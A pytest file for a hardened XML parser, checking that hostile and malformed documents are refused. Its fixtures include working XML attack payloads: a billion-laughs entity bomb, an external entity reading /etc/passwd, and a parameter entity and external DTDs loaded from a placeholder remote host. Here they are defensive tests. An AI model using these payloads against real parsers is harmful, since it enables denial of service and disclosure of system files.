"""Safe XML parsing: hostile documents are refused with typed errors, before harm is done."""

from __future__ import annotations

import pytest

from os_numa import exception, xmlutil

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE capabilities [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<capabilities><host><uuid>&lol9;</uuid></host></capabilities>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE capabilities [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<capabilities><host><uuid>&xxe;</uuid></host></capabilities>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE capabilities [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<capabilities/>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE capabilities SYSTEM "file:///etc/passwd">
<capabilities/>
"""

EXTERNAL_DTD_PUBLIC = """<!DOCTYPE capabilities PUBLIC "-//X//Y//EN" "http://192.0.2.1/x.dtd">
<capabilities/>
"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, EXTERNAL_DTD_PUBLIC],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "public-dtd"],
)
@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_unsafe_documents_are_refused(document, as_bytes):
    with pytest.raises(exception.UnsafeXML) as info:
        xmlutil.parse(document.encode() if as_bytes else document)
    # Nothing from /etc/passwd leaks into the message.
    assert "root:" not in str(info.value)
    assert isinstance(info.value, exception.InvalidXML)


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd"],
)
def test_unsafe_documents_in_utf16_are_refused(document):
    """UTF-16 hides the byte pattern of the cheap pre-scan; the checks after and
    during parsing still refuse the document."""
    utf16 = document.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(exception.UnsafeXML):
        xmlutil.parse(utf16.encode("utf-16"))


def test_an_earlier_unsafe_document_does_not_taint_a_later_malformed_one():
    utf16 = BILLION_LAUGHS.replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
    )
    with pytest.raises(exception.UnsafeXML):
        xmlutil.parse(utf16.encode("utf-16"))
    with pytest.raises(exception.InvalidXML) as info:
        xmlutil.parse("<a>")
    assert not isinstance(info.value, exception.UnsafeXML)


def test_utf16_document_without_entities_is_accepted():
    document = '<?xml version="1.0" encoding="UTF-16"?><capabilities><host/></capabilities>'
    assert xmlutil.parse(document.encode("utf-16")).tag == "capabilities"


def test_internal_doctype_without_entities_is_accepted():
    root = xmlutil.parse("<!DOCTYPE capabilities><capabilities><host/></capabilities>")
    assert root.tag == "capabilities"


def test_undeclared_entity_is_invalid():
    with pytest.raises(exception.InvalidXML) as info:
        xmlutil.parse("<a>&undeclared;</a>")
    assert "undeclared" in str(info.value)


def test_oversize_document_is_refused_before_parsing():
    # Not even well formed: the size check must fire before the parser sees it.
    document = "<a>" + "x" * 200
    with pytest.raises(exception.InvalidXML) as info:
        xmlutil.parse(document, max_bytes=100)
    assert "limit is 100 bytes" in str(info.value)
    with pytest.raises(exception.InvalidXML, match="limit is 100 bytes"):
        xmlutil.parse(document.encode(), max_bytes=100)


def test_size_bound_counts_utf8_bytes():
    document = "<a>" + "\u00e9" * 40 + "</a>"  # 47 characters, 87 bytes
    assert xmlutil.parse(document, max_bytes=87).text == "\u00e9" * 40
    with pytest.raises(exception.InvalidXML, match="87 bytes long"):
        xmlutil.parse(document, max_bytes=86)


def test_default_bound_admits_large_real_documents():
    cells = "".join(
        f"<cell id='{i}'><cpus num='1'><cpu id='{i}'/></cpus></cell>" for i in range(20000)
    )
    root = xmlutil.parse(
        f"<capabilities><host><topology><cells>{cells}</cells></topology></host></capabilities>"
    )
    assert len(root.find("host/topology/cells")) == 20000


@pytest.mark.parametrize(
    "document",
    ["", "<a>", "<a></b>", "not xml", "<a x='1' x='2'/>", "<a/><b/>"],
    ids=["empty", "unclosed", "mismatched", "text", "duplicate-attribute", "two-roots"],
)
def test_malformed_documents_are_invalid(document):
    with pytest.raises(exception.InvalidXML) as info:
        xmlutil.parse(document)
    assert not isinstance(info.value, exception.UnsafeXML)


@pytest.mark.parametrize("document", [None, 42, ["<a/>"]])
def test_non_text_is_invalid(document):
    with pytest.raises(exception.InvalidXML, match="expected str or bytes"):
        xmlutil.parse(document)


def test_declaration_with_encoding_in_a_str_is_accepted():
    root = xmlutil.parse('<?xml version="1.0" encoding="UTF-8"?><a>b</a>')
    assert root.text == "b"


def test_comments_processing_instructions_and_blank_text_are_dropped():
    root = xmlutil.parse("<a>\n  <!-- note -->\n  <?pi x?>\n  <b/>\n</a>")
    assert [child.tag for child in root] == ["b"]
    assert root.text is None


def test_element_count_is_bounded_before_parsing():
    """2 million empty elements (8 MiB) would cost ~600 MB as a tree: refused unparsed."""
    document = "<r>" + "<a/>" * 2_000_000 + "</r>"
    with pytest.raises(exception.InvalidXML) as info:
        xmlutil.parse(document)
    assert "2000001 start tags; the limit is 200000 elements" in str(info.value)


def test_element_bound_counts_start_tags_only():
    document = "<r><!-- c --><?pi x?>" + "<a>t</a>" * 3 + "</r>"
    assert len(xmlutil.parse(document, max_elements=4)) == 3
    with pytest.raises(exception.InvalidXML, match="4 start tags; the limit is 3"):
        xmlutil.parse(document, max_elements=3)
